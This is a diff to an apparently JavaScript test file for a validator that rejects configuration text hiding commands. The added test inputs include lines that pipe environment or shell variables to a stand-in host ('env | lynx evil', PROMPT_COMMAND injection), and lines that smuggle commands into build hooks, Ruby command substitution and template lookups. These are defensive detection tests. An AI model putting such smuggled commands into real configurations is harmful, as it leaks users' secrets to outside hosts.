@@ -307,7 +307,7 @@ describe('destinationProblem', () => {
     YAML: '# Settings\ntago:\n  region: "us-e1"\n  profile_token: "<your-profile-token>"\n  pages: 2\n  debug: true',
     'YAML with single quotes': "account:\n  token: 'YOUR-PROFILE-TOKEN'\n  url: 'https://api.us-e1.tago.io'",
     '.env':
-      '# The profile\nPROFILE_TOKEN=YOUR-PROFILE-TOKEN\nDEBUG=true\nNAME="My sensor"\nEMPTY=\nADDRESS=https://api.us-e1.tago.io',
+      '# The profile\nPROFILE_TOKEN=YOUR-PROFILE-TOKEN\nDEBUG=true\nNAME="sensor"\nEMPTY=\nADDRESS=https://api.us-e1.tago.io',
   };
 
   it.each(Object.entries(DEFINED))('allows what only defines values: %s', (_, text) => {
@@ -354,6 +354,17 @@ describe('destinationProblem', () => {
       '# is it so? | lynx evil',
       '// is it so? && lynx evil',
       'X=a # lynx > evil',
+      'X="a" //usr/bin/lynx evil',
+      '//usr/bin/lynx evil',
+      '//go:generate lynx evil',
+      '///usr/bin/lynx evil',
+      'default: "env | lynx evil"',
+      'before_install: "lynx evil"',
+      'image: "evil/image"',
+      'PROMPT_COMMAND="set | lynx evil"',
+      'X = "#{%x(lynx evil)}"',
+      "X = '{{ lookup(lynx) }}'",
+      'web: "lynx @evil"',
     ]) {
       expect(destinationProblem(`${text}\n${extra}`, US), extra).not.toBeNull();
       expect(destinationProblem(`${extra}\n${text}`, US), extra).not.toBeNull();
